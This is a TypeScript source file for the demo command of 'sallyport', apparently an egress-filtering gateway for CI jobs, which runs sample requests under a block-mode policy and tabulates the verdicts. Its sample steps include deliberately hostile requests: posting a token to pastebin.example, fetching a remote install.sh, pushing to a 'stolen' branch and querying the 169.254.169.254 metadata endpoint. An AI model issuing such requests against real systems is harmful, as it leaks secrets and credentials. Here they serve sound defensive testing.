// `sallyport demo`, behind `npm start`: a sample job of real clients behind a gateway in block mode, against servers
// of its own and the machine's npm registry. With a command it is `run` in audit mode.

import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { exitCodes, SallyportError } from '../flow/errors.ts';
import { readSegments } from '../store/read-segments.ts';
import { openDemoInternet, type DemoInternet } from './demo-internet.ts';
import { findRegistry, redactRegistry, type Registry } from './demo-registry.ts';
import { FlowTable, formatRow, formatTable, toRow, type FlowRow } from './flow-table.ts';
import { GatedNamespace } from './gated-namespace.ts';
import type { Io, StartGateway } from './gateway-port.ts';
import { hasProgram, installMissing } from './install-programs.ts';
import { Namespaces } from './namespace.ts';
import { requireRoot, runRun, summarise } from './run-command.ts';

const usage = `usage: sallyport demo [--json] [--] [COMMAND]

Without COMMAND: a sample job behind a gateway in block mode; ends with the table of its flows.
With COMMAND: that command behind a gateway in audit mode, as \`sallyport run\` does it.
What is missing of nftables, iproute2 and netbase, and for the sample job of curl and git, is installed with apt-get first.
`;

/** Runs the demo and answers its exit code. @throws SallyportError */
export async function runDemo(args: readonly string[], io: Io, startGateway: StartGateway): Promise<number> {
  const isJson = args[0] === '--json';
  const rest = isJson ? args.slice(1) : args;
  if (rest[0] === '--help' || rest[0] === '-h') {
    io.stdout.write(usage);
    return exitCodes.ok;
  }
  if (rest[0]?.startsWith('-') === true && rest[0] !== '--')
    throw new SallyportError('usage', `unknown option "${rest[0]}"\n${usage}`);
  const command = rest[0] === '--' ? rest.slice(1) : rest;
  requireRoot();
  installMissing(command.length === 0, (line) => io.stderr.write(`${line}\n`));
  if (command.length > 0)
    return runRun(['--mode', 'audit', ...(isJson ? ['--json'] : []), '--', ...command], io, startGateway);
  return runSample(io, isJson, startGateway);
}

function demoPolicy(registry: Registry | null): string {
  return `# The demo's policy. Nothing matches: blocked.
version: 1
mode: block
http:
  - {id: shop-api, host: api.shop.example, paths: "/v1/**", addresses: 198.18.0.0/15}
  - {id: shop-git, host: git.shop.example, methods: [GET, POST], paths: ["/app.git/info/refs", "/app.git/git-upload-pack"], addresses: 198.18.0.0/15}
  - {id: telemetry, host: metrics.example, methods: POST, paths: /collect, maxUpload: 64KiB, addresses: 198.18.0.0/15}
  - {id: pastes, host: pastebin.example, action: block}
${registry?.rule ?? ''}`;
}

interface Step {
  readonly title: string;
  readonly command: readonly string[];
}

function sampleJob(internet: DemoInternet, registry: Registry | null): Step[] {
  const curl = (...args: string[]) => ({
    title: `curl ${args.join(' ')}`,
    command: ['curl', '-sS', '--max-time', '6', ...args],
  });
  const fetchIt = (url: string, init: string) => ({
    title: `node fetch ${url}`,
    command: [
      process.execPath,
      '-e',
      `fetch(${JSON.stringify(url)}, ${init}).then(async (r) => console.log(r.status, (await r.text()).split('\\n')[0]), (e) => { console.log(String(e.cause ?? e)); process.exitCode = 1; })`,
    ],
  });
  const git = (...args: string[]) => ({ title: `git ${args.join(' ')}`, command: ['git', ...args] });
  const steps = [
    curl('https://api.shop.example/v1/orders'),
    curl('-X', 'DELETE', 'https://api.shop.example/v1/orders/7'),
    git('clone', '-q', 'https://git.shop.example/app.git'),
    git('-C', 'app', 'push', '-q', 'origin', 'HEAD:refs/heads/stolen'),
    fetchIt('https://metrics.example/collect', '{ method: "POST", body: "{}" }'),
    fetchIt('https://cdn.example/install.sh', '{}'),
    curl('-d', 'token=hunter2', 'https://pastebin.example/api'),
    curl('-k', `https://${internet.web}/v1/orders`),
    curl('http://169.254.169.254/latest/meta-data/'),
    curl(`telnet://${internet.web}:22`),
    ...(registry === null
      ? []
      : [{ title: 'npm view left-pad version', command: ['npm', 'view', 'left-pad', 'version'] }]),
  ];
  return steps.filter(({ command }) => command[0] === process.execPath || hasProgram(command[0]!));
}

async function runSample(io: Io, isJson: boolean, startGateway: StartGateway): Promise<number> {
  const say = (line: string): boolean => (isJson ? io.stderr : io.stdout).write(`${line}\n`);
  process.umask(0o022);
  const made = new Namespaces();
  // Records outlive the demo, so that they can be looked at.
  const kept = mkdtempSync(join(tmpdir(), 'sallyport-demo-'));
  chmodSync(kept, 0o755);
  const scratch = join(kept, 'demo');
  let internet: DemoInternet | null = null;
  let gate: GatedNamespace | null = null;
  try {
    const registry = await findRegistry();
    if (registry === null) say('the npm registry of this machine cannot be reached: that step is left out');
    mkdirSync(join(scratch, 'job'), { recursive: true });
    chmodSync(join(scratch, 'job'), 0o1777);
    internet = await openDemoInternet(made, scratch);
    const policyFile = join(kept, 'policy.yaml');
    writeFileSync(policyFile, demoPolicy(registry));
    say(
      `\npolicy (${policyFile}):\n${redactRegistry(demoPolicy(registry), registry).replace(/addresses: \["[^\]]*\]/, 'addresses: [...]')}`,
    );
    gate = await GatedNamespace.open(
      {
        startGateway,
        stateDirectory: join(kept, 'state'),
        policy: () => policyFile,
        job: (addresses) => ({
          addresses,
          platform: 'github',
          server: 'github.com',
          repository: 'shop/app',
          ref: 'refs/heads/main',
        }),
        upstreams: [{ address: internet.resolver }],
        extraAuthorities: [internet.authorityFile],
      },
      made,
    );
    await runSteps(gate, sampleJob(internet, registry), registry, join(scratch, 'job'), say, io);
    await saveMetrics(gate, join(kept, 'metrics.txt'));
    await gate.stopGateway();
    const summary = redactSummary(await summarise(join(gate.stateDirectory, 'segments')), registry);
    if (isJson) io.stdout.write(`${JSON.stringify(summary)}\n`);
    else io.stdout.write(`\n${formatTable(summary, io.stdout.columns ?? 120)}`);
    say(
      `\nrecords: ${join(kept, 'state', 'segments')}\nmetrics: ${join(kept, 'metrics.txt')} (while it serves: /metrics on the operator's listener)`,
    );
    say('your own command instead: npm start -- COMMAND');
    return exitCodes.ok;
  } finally {
    await gate?.stopGateway();
    internet?.close();
    await made.remove();
  }
}

async function runSteps(
  gate: GatedNamespace,
  steps: readonly Step[],
  registry: Registry | null,
  cwd: string,
  say: (line: string) => void,
  io: Io,
): Promise<void> {
  const shown = new Set<string>();
  for (const { title, command } of steps) {
    say(`\n$ ${title}`);
    const code = await gate.run(command, { cwd, stdio: 'stderr', env: { GIT_TERMINAL_PROMPT: '0' } });
    // Closed records are written within 100 ms.
    await sleep(150);
    say(`  exit code ${code}`);
    for (const row of await newRows(gate.stateDirectory, shown)) {
      say(`  ${redactRegistry(formatRow(row, io.stdout.columns ?? 120), registry)}`);
    }
  }
}

/** Rows of flows that were not shown before. */
async function newRows(stateDirectory: string, shown: Set<string>): Promise<FlowRow[]> {
  const table = new FlowTable();
  for await (const record of readSegments(join(stateDirectory, 'segments'))) {
    if (record.phase !== 'closed' || shown.has(record.id)) continue;
    if (record.kind === 'request' || toRow(record).verdict === 'block') table.add(record);
    shown.add(record.id);
  }
  return [...table.summary().flows];
}

function redactSummary<T extends { readonly flows: readonly FlowRow[] }>(
  summary: T,
  registry: Registry | null,
): T {
  const flows = summary.flows.map((row) => ({ ...row, host: redactRegistry(row.host, registry) }));
  return { ...summary, flows };
}

async function saveMetrics(gate: GatedNamespace, path: string): Promise<void> {
  if (gate.operator === null) return;
  const answer = await fetch(`http://${gate.operator}/metrics`, { signal: AbortSignal.timeout(3000) });
  writeFileSync(path, await answer.text());
}
